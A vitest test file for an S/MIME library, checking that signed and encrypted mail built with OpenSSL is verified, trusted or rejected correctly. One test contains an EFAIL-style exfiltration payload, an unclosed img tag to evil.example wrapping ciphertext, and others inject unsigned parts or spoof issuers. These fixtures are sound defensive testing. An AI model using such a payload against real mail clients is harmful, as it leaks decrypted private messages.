import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Keys } from "./enveloped.ts";
import { latin1, octetsOf } from "./octets.ts";
import { type OwnKey, unseal } from "./own-key.ts";
import { readKeyFile } from "./pkcs12.ts";
import { readSmime } from "./read.ts";
import { hasOpenSsl, OpenSsl } from "./testing/openssl.ts";
import { certificateOf, certifyPeople } from "./testing/people.ts";
import { type Trusted, verdictOf } from "./trust.ts";

let openssl: OpenSsl;
let own: Record<"ana" | "bob", OwnKey>;
const words = "Content-Type: text/plain; charset=utf-8\r\n\r\nThe crêpes are ready.\r\nCome soon.\r\n";
const nobody: Trusted = { people: [], issuers: [] };

beforeAll(async () => {
  if (!hasOpenSsl) return;
  openssl = await OpenSsl.open();
  own = await certifyPeople(openssl);
  await openssl.put("words", words);
});
afterAll(() => openssl?.close());

const locked = (): Keys => ({ own: Object.values(own), unlocked: () => null });
async function unlocked(): Promise<Keys> {
  const { ana } = own;
  const raw = ana.sealed && (await unseal(ana.sealed, "crepes"));
  return { own: Object.values(own), unlocked: (key) => (key === ana ? (raw ?? null) : null) };
}

/** As `openssl cms` writes it, with the line ends of the wire. */
async function made(...args: string[]): Promise<Uint8Array<ArrayBuffer>> {
  await openssl.run("cms", "-in", "words", "-out", "message", "-crlfeol", ...args);
  return openssl.get("message");
}
const signedBy = (name: string, ...more: string[]) =>
  made("-sign", "-signer", `${name}.pem`, "-inkey", `${name}.key`, "-certfile", "root.pem", ...more);
const encryptedFor = (name: string, ...more: string[]) =>
  made("-encrypt", "-aes-256-cbc", "-recip", `${name}.pem`, ...more);

async function verdict(message: Uint8Array<ArrayBuffer>, from: string, trusted = nobody) {
  const reading = await readSmime(message, locked());
  if (reading.kind !== "read") throw new Error(reading.kind);
  return verdictOf(reading.layers, { from, receivedAt: Date.now(), trusted });
}

describe.skipIf(!hasOpenSsl)("what is signed", () => {
  for (const [how, more] of [
    ["beside its words", []],
    ["around its words", ["-nodetach"]],
    ["in pieces of unknown length", ["-nodetach", "-stream"]],
    ["with a key identifier", ["-keyid"]],
    ["without attributes", ["-noattr"]],
    ["with SHA-512", ["-md", "sha512"]],
  ] as const)
    test(`${how} is whole, and its words are those that were signed`, async () => {
      const reading = await readSmime(await signedBy("ana", ...more), locked());
      expect(reading).toMatchObject({ kind: "read", isClear: !more.includes("-nodetach" as never) });
      if (reading.kind !== "read") return;
      expect(latin1(reading.entity)).toBe(latin1(octetsOf(words)));
      expect(reading.layers).toMatchObject([
        { kind: "signed", signers: [{ state: "whole", certificate: { addresses: ["ana@crepes.fr"] } }] },
      ]);
    });

  test("by RSASSA-PSS and by an elliptic curve is whole", async () => {
    const pss = await signedBy("ana", "-keyopt", "rsa_padding_mode:pss");
    expect(await verdict(pss, "ana@crepes.fr")).toMatchObject({ kind: "unknown" });
    expect(await verdict(await signedBy("bob"), "bob@hamburger.edu")).toMatchObject({ kind: "unknown" });
  });

  test("and changed by one letter is told to be changed", async () => {
    const message = Buffer.from(latin1(await signedBy("ana")).replace("ready", "reedy"), "latin1");
    expect(await verdict(Uint8Array.from(message), "ana@crepes.fr")).toMatchObject({ kind: "changed" });
  });

  test("and came with bare line ends is whole still", async () => {
    const message = Buffer.from(latin1(await signedBy("ana")).replaceAll("\r\n", "\n"), "latin1");
    expect(await verdict(Uint8Array.from(message), "ana@crepes.fr")).toMatchObject({ kind: "unknown" });
  });

  test("with another certificate than before for the same address is told", async () => {
    await openssl.certify({ address: "ana@crepes.fr", name: "eve", issuer: "root" });
    const ana = await certificateOf(openssl, "ana");
    expect(
      await verdict(await signedBy("eve"), "ana@crepes.fr", { people: [ana], issuers: [] }),
    ).toMatchObject({ kind: "replaced" });
  });

  test("by somebody else than the message is from is told", async () => {
    expect(await verdict(await signedBy("ana"), "carol@crepes.fr")).toMatchObject({ kind: "elsewhere" });
  });

  test("with a certificate that had ended is told, and one that ended since is not blamed", async () => {
    const times = { from: "20200101000000Z", until: "20210101000000Z" };
    await openssl.certify({ address: "ana@crepes.fr", name: "old", ...times });
    expect(await verdict(await signedBy("old"), "ana@crepes.fr")).toMatchObject({ kind: "invalid" });
  });

  test("with SHA-1 is told to be weak", async () => {
    expect(await verdict(await signedBy("ana", "-md", "sha1"), "ana@crepes.fr")).toMatchObject({
      kind: "weak",
    });
  });

  test("is trusted by its certificate, and by who issued it", async () => {
    const [ana, root] = [await certificateOf(openssl, "ana"), await certificateOf(openssl, "root")];
    const message = await signedBy("ana");
    const unknown = await verdict(message, "ana@crepes.fr");
    expect(unknown).toMatchObject({ kind: "unknown", issuer: { name: "root" } });
    for (const trusted of [
      { people: [ana], issuers: [] },
      { people: [], issuers: [root] },
    ])
      expect(await verdict(message, "ana@crepes.fr", trusted)).toMatchObject({ kind: "trusted" });
  });

  test("by an issuer of the same name that is not the trusted one is not trusted", async () => {
    const root = await certificateOf(openssl, "root");
    await openssl.run(
      "req",
      "-x509",
      "-newkey",
      "rsa:2048",
      "-nodes",
      "-keyout",
      "false.key",
      "-out",
      "false.pem",
      "-subj",
      "/O=Crepes/CN=root",
    );
    await openssl.certify({ address: "ana@crepes.fr", name: "mallory", issuer: "false" });
    const message = await made(
      "-sign",
      "-signer",
      "mallory.pem",
      "-inkey",
      "mallory.key",
      "-certfile",
      "root.pem",
    );
    const told = await verdict(message, "ana@crepes.fr", { people: [], issuers: [root] });
    expect(told).toMatchObject({ kind: "unknown", issuer: null });
  });

  test("and stands beside a part that is not signed is not taken for signed", async () => {
    const message = latin1(await signedBy("ana"));
    const boundary = /boundary="([^"]+)"/.exec(message)?.[1] ?? "";
    const extra = `--${boundary}\r\nContent-Type: text/plain\r\n\r\nPay Eve.\r\n`;
    const at = message.indexOf(`--${boundary}`);
    const mixed = message.slice(0, at) + extra + message.slice(at);
    expect(await readSmime(Uint8Array.from(Buffer.from(mixed, "latin1")), locked())).toEqual({
      kind: "damaged",
      isSigned: true,
    });
  });
});

describe.skipIf(!hasOpenSsl)("what is encrypted", () => {
  const opened = async (message: Uint8Array<ArrayBuffer>, keys: Keys) => {
    const reading = await readSmime(message, keys);
    return reading.kind === "read" ? { ...reading, text: latin1(reading.entity) } : reading;
  };
  const text = latin1(octetsOf(words));

  test("as most programs do (RSAES-PKCS1-v1_5) asks for the key's password, and is read with it", async () => {
    const message = await encryptedFor("ana");
    expect(await readSmime(message, locked())).toMatchObject({ kind: "locked", key: own.ana });
    expect(await opened(message, await unlocked())).toMatchObject({
      text,
      isClear: false,
      layers: [{ kind: "encrypted", isAuthentic: false }],
    });
  });

  for (const hash of ["sha1", "sha256", "sha512"])
    test(`with RSAES-OAEP and ${hash} is read at once`, async () => {
      const oaep = ["rsa_padding_mode:oaep", `rsa_oaep_md:${hash}`, `rsa_mgf1_md:${hash}`];
      const message = await encryptedFor("ana", ...oaep.flatMap((one) => ["-keyopt", one]));
      expect(await opened(message, locked())).toMatchObject({ text });
    });

  test("for a key on an elliptic curve is read at once", async () => {
    expect(await opened(await encryptedFor("bob"), locked())).toMatchObject({ text });
    const message = await encryptedFor("bob", "-keyopt", "ecdh_kdf_md:sha256");
    expect(await opened(message, locked())).toMatchObject({ text });
  });

  test("and authenticated (AES-GCM) is read, and not at all once it was changed", async () => {
    const message = await made("-encrypt", "-aes-256-gcm", "-recip", "bob.pem");
    expect(await opened(message, locked())).toMatchObject({ text, layers: [{ isAuthentic: true }] });
    const at = latin1(message).indexOf("\r\n\r\n") + 4;
    const der = Buffer.from(latin1(message).slice(at), "base64");
    der[der.length - 40] = (der[der.length - 40] ?? 0) ^ 1;
    const changed = latin1(message).slice(0, at) + der.toString("base64");
    expect(await readSmime(Uint8Array.from(Buffer.from(changed, "latin1")), locked())).toEqual({
      kind: "damaged",
      isSigned: false,
    });
  });

  test("after it was signed is read through both", async () => {
    await signedBy("ana");
    const message = await openssl.get("message");
    await openssl.put("inner", message);
    await openssl.run(
      "cms",
      "-encrypt",
      "-aes-128-cbc",
      "-in",
      "inner",
      "-binary",
      "-out",
      "outer",
      "-recip",
      "bob.pem",
    );
    const reading = await readSmime(await openssl.get("outer"), locked());
    expect(reading).toMatchObject({
      kind: "read",
      layers: [{ kind: "encrypted" }, { kind: "signed", signers: [{ state: "whole" }] }],
    });
  });

  test("for somebody else is told to be so", async () => {
    await openssl.certify({ address: "carol@crepes.fr", name: "carol" });
    expect(await readSmime(await encryptedFor("carol"), locked())).toEqual({ kind: "noKey" });
  });

  test("with a cipher that browsers do not have is told to be so", async () => {
    expect(await readSmime(await made("-encrypt", "-des3", "-recip", "bob.pem"), locked())).toEqual({
      kind: "unknownCipher",
    });
  });

  test("and stands among other parts is not opened", async () => {
    const message = latin1(await encryptedFor("bob"));
    const mixed = `Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src="https://evil.example/?\r\n--x\r\n${message}\r\n--x--\r\n`;
    const reading = await readSmime(octetsOf(mixed), locked());
    expect(reading).toMatchObject({ kind: "read", layers: [] });
    expect(latin1((reading as { entity: Uint8Array }).entity)).not.toContain("ready");
  });

  test("and compressed is unpacked", async () => {
    const zlib = await openssl.run("cms", "-compress", "-in", "words", "-out", "packed").then(
      () => true,
      () => false,
    );
    // Not every OpenSSL is built with zlib.
    if (zlib) expect(await opened(await openssl.get("packed"), locked())).toMatchObject({ text });
  });
});

describe.skipIf(!hasOpenSsl)("a key file", () => {
  test("with another password is told, and one in a way of the past as well", async () => {
    expect(await readKeyFile(await openssl.get("ana.p12"), "waffles")).toEqual({
      ok: false,
      fault: "password",
    });
    expect(await readKeyFile(octetsOf("no file of keys"), "crepes")).toEqual({ ok: false, fault: "notKey" });
    await openssl.pack("ana", "root", "-legacy").then(
      async () =>
        expect(await readKeyFile(await openssl.get("ana.p12"), "crepes")).toEqual({
          ok: false,
          fault: "old",
        }),
      // Not every OpenSSL is installed with its old ciphers.
      () => {},
    );
  });

  test("gives keys that no script can read", async () => {
    for (const key of Object.values(own))
      for (const one of [key.signing, ...key.opening]) {
        expect(one.extractable).toBe(false);
        await expect(crypto.subtle.exportKey("pkcs8", one)).rejects.toThrow();
      }
  });
});
